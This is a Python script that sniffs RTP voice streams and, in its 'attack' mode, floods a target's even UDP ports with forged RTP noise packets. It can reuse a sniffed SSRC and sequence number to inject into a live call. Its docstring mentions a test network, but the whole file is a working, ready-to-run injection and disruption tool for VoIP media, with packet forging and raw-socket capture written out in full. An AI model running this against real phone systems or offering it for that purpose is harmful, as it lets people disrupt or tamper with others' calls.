"""Run on a device of the test network: `watch` and `count` read RTP that passes, `attack` sends it where it should not.

  rtp_tool.py watch SOURCE_ADDRESS            prints the first packet's port, SSRC and sequence as JSON
  rtp_tool.py count INTERFACE             until SIGTERM; prints each stream's packets and its missing sequence numbers
  rtp_tool.py attack TARGET SECONDS LOW-HIGH [SSRC SEQUENCE]
      loud noise to every even port, 50 times a second; prints how many packets were sent and how many came back
"""

import ipaddress
import json
import random
import select
import signal
import socket
import struct
import sys
import time


def packets(interface="", seconds=None):
    """Each RTP packet of 20 ms G.711 that passes: source, target, port, sequence, SSRC."""
    every = 3  # ETH_P_ALL, or what is sent from here is not seen
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(every))
    if interface:
        sniffer.bind((interface, every))
    sniffer.settimeout(seconds)
    while True:
        frame = sniffer.recv(2048)
        ip = frame[14:]
        if frame[12:14] != b"\x08\x00" or ip[9] != socket.IPPROTO_UDP:
            continue
        udp = ip[(ip[0] & 15) * 4 :]
        rtp = udp[8:]
        if len(rtp) == 172 and rtp[0] == 0x80:
            sequence, _, ssrc = struct.unpack("!HII", rtp[2:12])
            yield (str(ipaddress.ip_address(ip[12:16])), str(ipaddress.ip_address(ip[16:20])),
                   struct.unpack("!H", udp[2:4])[0], sequence, ssrc)


def watch(source):
    for sender, _, port, sequence, ssrc in packets(seconds=10):
        if sender == source:
            return {"port": port, "sequence": sequence, "ssrc": ssrc}


def count(interface):
    streams = {}
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    try:
        for sender, target, _, sequence, ssrc in packets(interface):
            streams.setdefault(f"{sender} > {target} {ssrc:08x}", []).append(sequence)
    finally:
        for name, seen in streams.items():
            missing = sorted({(seen[0] + i) & 0xFFFF for i in range((seen[-1] - seen[0]) & 0xFFFF)} - set(seen))
            print(f"{name}: {len(seen)} packets, missing {missing}", flush=True)


def attack(target, seconds, ports, ssrc=None, sequence=None):
    low, high = map(int, ports.split("-"))
    ssrc = int(ssrc) if ssrc else random.getrandbits(32)
    sequence = int(sequence) if sequence else random.getrandbits(16)
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.bind(("", 40000))
    sent = received = 0
    end, tick = time.monotonic() + float(seconds), time.monotonic()
    while tick < end:
        noise = random.randbytes(160)
        packet = struct.pack("!BBHII", 0x80, 0, sequence & 0xFFFF, sequence * 160 & 0xFFFFFFFF, ssrc) + noise
        for port in range(low + low % 2, high, 2):
            try:
                out.sendto(packet, (target, port))
                sent += 1
            except ConnectionRefusedError:
                pass  # that port is not open
        sequence, tick = sequence + 1, tick + 0.02
        while select.select([out], [], [], max(0, tick - time.monotonic()))[0]:
            try:
                out.recv(2048)
                received += 1
            except ConnectionRefusedError:
                pass
    return {"sent": sent, "received": received}


print(json.dumps({"watch": watch, "count": count, "attack": attack}[sys.argv[1]](*sys.argv[2:])))
